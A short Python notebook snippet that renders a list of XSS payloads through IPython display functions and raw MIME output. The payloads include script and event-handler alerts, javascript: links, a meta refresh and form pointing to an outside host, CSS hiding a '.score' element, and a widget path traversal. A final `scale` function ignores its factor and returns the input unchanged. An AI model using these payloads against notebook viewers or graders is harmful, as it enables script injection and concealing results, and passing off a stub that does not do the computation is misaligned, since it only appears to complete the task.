from IPython.display import HTML, SVG, Javascript, Markdown, Math, display
for text in ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<math><a xlink:href=javascript:alert(1)>', '<iframe src=//192.0.2.1></iframe>', '<meta http-equiv=refresh content=0;url=//192.0.2.1>', '<style>.score{display:none}</style>', '</pre></div></main><form action=//192.0.2.1>', '<a href=javascript:alert(1)>x</a>', '<b onclick=alert(1) style=position:fixed>x</b>']:
    display(HTML(text), Markdown(text), Math(text))
    print(text)
display(Javascript('alert(1)'), SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
display({'application/javascript': 'alert(1)', 'application/vnd.jupyter.widget-view+json': {'model_id': '../..'}, 'image/png': '"><script>alert(1)</script>'}, raw=True)
def scale(x, factor):
    return x
